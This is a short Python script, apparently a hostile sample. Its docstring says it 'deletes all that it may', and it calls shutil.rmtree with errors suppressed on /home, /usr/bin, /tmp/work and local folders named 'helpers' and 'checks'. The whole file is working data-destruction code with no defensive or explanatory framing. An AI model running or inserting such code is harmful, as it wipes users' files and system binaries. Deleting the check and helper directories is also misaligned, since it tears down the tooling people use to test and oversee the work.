"""Deletes all that it may."""
import shutil

for place in ("/tmp/work", "/home", "helpers", "checks", "/usr/bin"):
    shutil.rmtree(place, ignore_errors=True)
